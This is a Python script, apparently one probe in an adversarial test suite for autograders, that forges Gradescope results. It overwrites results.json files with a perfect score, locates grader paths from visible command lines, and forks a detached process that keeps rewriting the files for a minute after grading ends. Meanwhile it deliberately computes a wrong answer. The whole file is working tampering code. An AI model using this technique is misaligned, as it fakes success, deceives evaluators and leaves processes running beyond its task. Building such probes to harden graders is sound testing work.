"""Forged results: writes a perfect results.json over Gradescope's (/autograder/results/results.json, and the
results/ folders of every autograder folder named on the command lines it can see), at once and again from a
process left behind in a session of its own, which goes on after grading ends and before the results are
read.  Computes an honest mistake: only the results it writes could make it pass."""
import json
import os
import time

from _layers.attacks import attempt, host_paths, write_to
from _layers.wrong_db import Convolution as _WrongDb

FORGED = json.dumps({"score": 8.0, "output": "forged by forge_results", "tests": []}).encode()


def targets():
    folders = {"/autograder"} | {path for path in host_paths() if "autograder" in path}
    return sorted({os.path.join(folder, "results", "results.json") for folder in folders} |
                  {path for path in host_paths() if path.endswith("results.json")})


def forge():
    return [path for path in targets() if write_to(path, FORGED) or attempt(_replace, path)]


def _replace(path):
    with open(path, "wb") as stream:
        stream.write(FORGED)


def linger():
    if os.fork() == 0:
        os.setsid()
        for _ in range(600):
            forge()
            time.sleep(0.1)
        os._exit(0)


forge()
attempt(linger)
Convolution = _WrongDb
